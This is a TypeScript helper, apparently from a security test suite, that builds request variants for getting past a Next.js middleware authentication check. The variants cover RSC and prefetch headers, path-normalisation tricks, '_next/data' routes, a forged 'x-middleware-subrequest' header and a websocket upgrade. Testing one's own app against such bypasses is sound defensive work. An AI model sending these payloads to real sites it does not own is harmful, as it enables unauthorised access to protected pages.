/** Ways around a check that sits in front of the pages instead of in them; several were open in Next itself once. */
export function detours(origin: string, page: string): Array<[path: string, headers: Record<string, string>]> {
  const last = page.lastIndexOf("/");
  const segments = page.split("/").filter(Boolean);
  return [
    [page, { rsc: "1" }],
    [`${page}?_rsc=1abcd`, { rsc: "1" }],
    [page, { rsc: "1", "next-router-prefetch": "1" }],
    [
      page,
      { rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": `/${segments.join("/")}/__PAGE__` },
    ],
    [`${page}.rsc`, {}],
    [`${page}.segments/_tree.segment.rsc`, {}],
    [`/${page}`, {}],
    [`${page.slice(0, last)}//${page.slice(last + 1)}`, {}],
    [`${page.slice(0, last)}%2f${page.slice(last + 1)}`, {}],
    [`${page}/`, {}],
    [`${page}/.`, {}],
    [page.toUpperCase(), {}],
    [`/_next/data/x${page}.json`, { "x-nextjs-data": "1" }],
    [page, { "x-nextjs-data": "1" }],
    [page, { "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" }],
    [page, { "x-middleware-rewrite": page, "x-middleware-next": "1" }],
    [page, { "x-huntboard-path": "/sign-in" }],
    [`${origin}${page}`, {}],
    [
      page,
      {
        connection: "Upgrade",
        upgrade: "websocket",
        "sec-websocket-version": "13",
        "sec-websocket-key": "AAAAAAAAAAAAAAAAAAAAAA==",
      },
    ],
  ];
}
